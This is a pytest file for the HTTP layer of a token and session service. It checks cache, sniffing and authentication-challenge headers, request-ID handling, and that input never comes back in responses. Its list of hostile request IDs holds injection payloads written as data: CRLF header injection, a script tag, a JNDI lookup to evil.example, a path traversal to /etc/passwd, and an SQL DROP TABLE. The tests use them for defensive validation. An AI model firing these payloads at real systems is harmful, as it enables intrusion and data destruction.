"""The headers that every answer has, whatever it says."""

import re
from collections.abc import Callable

import pytest
from falcon.testing import Result, TestClient

from domain.model.sessions import SessionPolicy
from domain.model.tokens import TokenPair
from tests.fakes.service import FakeService
from tests.http.contract import SERVICE_CREDENTIAL, bearer, by_cookie, refresh_token_of

HOSTILE_REQUEST_IDS = [
    "",
    " ",
    "a b",
    "a" * 65,
    "a\r\nSet-Cookie: x=y",
    "a\nb",
    "a\n",
    "a\x00b",
    "a\x85",
    "\xa0a",
    '"a"',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}",
    "%0d%0a",
    "\xc3\xa9",
    "../../etc/passwd",
    "'; DROP TABLE nuovo_sessions; --",
    "\uff11".encode().decode("latin-1"),
    "{}",
    "a,b",
    "a" * 100_000,
]
ALL_ROUTES = [
    ("POST", "/refresh_token"),
    ("POST", "/revoke_token"),
    ("POST", "/sessions"),
    ("GET", "/sessions"),
    ("DELETE", "/sessions"),
    ("DELETE", "/sessions/some-id"),
    ("GET", "/users/ada/sessions"),
    ("DELETE", "/users/ada/sessions"),
    ("DELETE", "/users/ada/sessions/some-id"),
    ("POST", "/oauth/token"),
    ("POST", "/oauth/revoke"),
    ("POST", "/oauth/introspect"),
    ("GET", "/health/live"),
    ("GET", "/health/ready"),
    ("GET", "/nowhere"),
    ("PUT", "/sessions"),
    ("OPTIONS", "/sessions"),
]


def assert_never_stored(answer: Result) -> None:
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Pragma"] == "no-cache"


@pytest.mark.parametrize(("method", "path"), ALL_ROUTES)
def test_no_answer_is_stored_or_sniffed(client: TestClient, method: str, path: str) -> None:
    answer = client.simulate_request(method, path)
    assert_never_stored(answer)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_answers_with_tokens_are_not_stored(client: TestClient, pair: TokenPair) -> None:
    """Good ones, bad ones, and that of a new session."""
    token = refresh_token_of(pair)
    assert_never_stored(client.simulate_post("/refresh_token", headers=bearer(token)))
    assert_never_stored(client.simulate_post("/refresh_token", headers=by_cookie(token)))
    assert_never_stored(client.simulate_post("/refresh_token", headers=bearer("nonsense")))
    assert_never_stored(client.simulate_post("/revoke_token", headers=bearer(token)))
    started = client.simulate_post("/sessions", headers=bearer(SERVICE_CREDENTIAL), json={"user_id": "ada"})
    assert started.status_code == 201
    assert_never_stored(started)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/refresh_token"),
        ("POST", "/revoke_token"),
        ("POST", "/sessions"),
        ("GET", "/sessions"),
        ("GET", "/users/ada/sessions"),
        ("DELETE", "/users/ada/sessions"),
    ],
)
def test_a_401_without_a_token_only_names_the_scheme(client: TestClient, method: str, path: str) -> None:
    """RFC 6750, section 3.1: no error code for a request that lacks a credential."""
    answer = client.simulate_request(method, path)
    assert answer.status_code == 401
    assert answer.headers["WWW-Authenticate"] == 'Bearer realm="nuovo"'


@pytest.mark.parametrize(
    ("method", "path", "message"),
    [
        ("POST", "/refresh_token", "Invalid refresh token."),
        ("POST", "/revoke_token", "Invalid refresh token."),
        ("POST", "/sessions", "Invalid service credential."),
        ("GET", "/sessions", "Invalid access token."),
        ("DELETE", "/sessions", "Invalid access token."),
        ("DELETE", "/sessions/some-id", "Invalid access token."),
        ("GET", "/users/ada/sessions", "Invalid service credential."),
        ("DELETE", "/users/ada/sessions", "Invalid service credential."),
        ("DELETE", "/users/ada/sessions/some-id", "Invalid service credential."),
    ],
)
def test_a_401_to_a_bad_token_says_invalid_token(client: TestClient, method: str, path: str, message: str) -> None:
    answer = client.simulate_request(method, path, headers=bearer("nonsense"))
    assert answer.status_code == 401
    assert answer.headers["WWW-Authenticate"] == (
        f'Bearer realm="nuovo", error="invalid_token", error_description="{message}"'
    )


def test_a_401_to_a_bad_cookie_says_invalid_token(client: TestClient) -> None:
    challenge = client.simulate_post("/refresh_token", headers=by_cookie("nonsense")).headers["WWW-Authenticate"]
    assert 'error="invalid_token"' in challenge


def test_a_401_to_an_expired_token_says_invalid_token(
    client: TestClient, service: FakeService, pair: TokenPair
) -> None:
    """RFC 6750 has one code for expired, revoked and malformed."""
    service.clock.advance(SessionPolicy().refresh_token_ttl)
    refresh = client.simulate_post("/refresh_token", headers=bearer(refresh_token_of(pair)))
    access = client.simulate_get("/sessions", headers=bearer(pair.access_token))
    for answer in (refresh, access):
        assert answer.status_code == 401
        assert 'error="invalid_token"' in answer.headers["WWW-Authenticate"]


@pytest.mark.parametrize("status", [200, 400, 403, 404])
def test_no_other_status_challenges(client: TestClient, pair: TokenPair, status: int) -> None:
    cookie = by_cookie(refresh_token_of(pair))
    headers, path = {
        200: (cookie, "/refresh_token"),
        400: (cookie | {"Cookie": f"{cookie['Cookie']}; {cookie['Cookie']}"}, "/refresh_token"),
        403: (cookie | {"Sec-Fetch-Site": "cross-site"}, "/refresh_token"),
        404: ({}, "/nowhere"),
    }[status]
    answer = client.simulate_post(path, headers=headers)
    assert answer.status_code == status
    assert "WWW-Authenticate" not in answer.headers


@pytest.mark.parametrize("request_id", ["a", "A-Z_0.9", "f" * 64, "1234-5678"])
def test_a_harmless_request_id_is_echoed(client: TestClient, request_id: str) -> None:
    answer = client.simulate_get("/health/live", headers={"X-Request-ID": request_id})
    assert answer.headers["X-Request-ID"] == request_id


def test_a_missing_request_id_is_made_anew_each_time(client: TestClient) -> None:
    made = {client.simulate_get("/health/live").headers["X-Request-ID"] for _ in range(100)}
    assert len(made) == 100
    assert all(re.fullmatch(r"[\w-]{22}", request_id, re.ASCII) for request_id in made)


@pytest.mark.parametrize("given", HOSTILE_REQUEST_IDS, ids=lambda given: ascii(given[:30]))
def test_a_hostile_request_id_is_replaced(client: TestClient, given: str) -> None:
    answer = client.simulate_post("/refresh_token", extras={"HTTP_X_REQUEST_ID": given})
    assert answer.status_code == 401
    assert re.fullmatch(r"[\w-]{22}", answer.headers["X-Request-ID"], re.ASCII)


@pytest.mark.parametrize(("method", "path"), ALL_ROUTES)
def test_nothing_that_was_sent_comes_back(client: TestClient, method: str, path: str) -> None:
    """Neither in a header nor in a body, whichever way it was sent."""
    canary = "CaNaRy"
    answer = client.simulate_request(
        method,
        path,
        query_string=f"{canary}={canary}",
        headers={
            "Authorization": f"Bearer {canary}",
            "Cookie": f"__Host-refresh_token={canary}; {canary}=1",
            "Sec-Fetch-Site": "same-origin",
            "Origin": f"https://{canary}.example",
            "Referer": f"https://{canary}.example",
            "User-Agent": canary,
            "Accept": f"text/{canary}",
            "Content-Type": f"application/{canary}",
            "X-Request-ID": f"<{canary}>",
        },
        body=f'{{"{canary}": "{canary}"}}',
    )
    assert canary not in answer.text
    assert not any(canary in name + value for name, value in answer.headers.items())


@pytest.mark.parametrize("path", [f"/{'CaNaRy'}", "/sessions/CaNaRy", "/CaNaRy/refresh_token"])
def test_no_path_comes_back(client: TestClient, pair: TokenPair, path: str) -> None:
    answer = client.simulate_delete(path, headers=bearer(pair.access_token))
    assert answer.status_code == 404
    assert "CaNaRy" not in answer.text
    assert not any("CaNaRy" in value for value in answer.headers.values())


def test_no_header_names_the_framework(make_client: Callable[..., TestClient]) -> None:
    answer = make_client().simulate_get("/nowhere")
    assert not {"server", "x-powered-by"} & {name.lower() for name in answer.headers}
